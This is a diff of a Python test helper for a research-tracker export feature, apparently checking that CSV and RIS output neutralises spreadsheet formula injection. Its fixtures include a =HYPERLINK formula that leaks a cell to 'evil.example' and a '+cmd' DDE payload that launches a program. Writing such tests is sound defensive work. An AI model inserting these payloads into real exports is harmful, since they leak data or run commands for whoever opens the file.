@@ -5,7 +5,9 @@ from __future__ import annotations
 
 import csv
 import io
+from dataclasses import replace
 from datetime import UTC, datetime
+from typing import Any
 
 import rispy
 
@@ -17,31 +19,30 @@ from tracker.reports.render.markdown import render_digest_markdown
 T = datetime(2026, 1, 1, tzinfo=UTC)
 
 
-def _row(**over) -> ExportRow:
-    values = {
-        "id": "PMID:1",
-        "kind": "article",
-        "source": "pubmed",
-        "title": '=HYPERLINK("https://evil.example/?"&A1,"click")',
-        "url": "https://pubmed.ncbi.nlm.nih.gov/1/",
-        "study": None,
-        "relevant": True,
-        "role": "follow_up",
-        "verdict": "confirms",
-        "overridden": False,
-        "rule": None,
-        "reason": None,
-        "strength": None,
-        "participants": -3,
-        "status": None,
-        "year": "2024",
-        "date": "2024-01-02",
-        "journal": "+cmd|' /C calc'!A0",
-        "sponsor": "@SUM(1+1)",
-        "authors": [Person("-2+3"), Person("\tTab", "A")],
-    }
-    values.update(over)
-    return ExportRow(**values)
+def _row(**over: Any) -> ExportRow:
+    row = ExportRow(
+        id="PMID:1",
+        kind="article",
+        source="pubmed",
+        title='=HYPERLINK("https://evil.example/?"&A1,"click")',
+        url="https://pubmed.ncbi.nlm.nih.gov/1/",
+        study=None,
+        relevant=True,
+        role="follow_up",
+        verdict="confirms",
+        overridden=False,
+        rule=None,
+        reason=None,
+        strength=None,
+        participants=-3,
+        status=None,
+        year="2024",
+        date="2024-01-02",
+        journal="+cmd|' /C calc'!A0",
+        sponsor="@SUM(1+1)",
+        authors=[Person("-2+3"), Person("\tTab", "A")],
+    )
+    return replace(row, **over)
 
 
 def _cells(text: str) -> dict[str, str]:
